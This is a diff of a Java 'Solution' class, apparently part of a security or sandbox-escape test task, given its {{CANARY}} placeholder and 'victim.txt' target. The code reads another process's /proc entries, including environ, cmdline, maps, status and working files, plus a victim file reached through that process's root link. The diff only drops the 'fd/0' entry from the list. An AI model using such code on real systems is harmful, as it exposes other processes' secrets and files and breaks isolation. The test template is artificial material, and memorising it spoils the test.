@@ -13,7 +13,7 @@ class Solution {
         } catch (Exception e) {
             known.append(e);
         }
-        for (String what : List.of("environ", "cmdline", "maps", "status", "fd/0", "cwd/pom.xml", "root{{CANARY}}/victim.txt")) {
+        for (String what : List.of("environ", "cmdline", "maps", "status", "cwd/pom.xml", "root{{CANARY}}/victim.txt")) {
             try {
                 byte[] bytes = Files.readAllBytes(Path.of("/proc/" + app + "/" + what));
                 known.append(new String(bytes, StandardCharsets.ISO_8859_1).replace('\0', ' '));
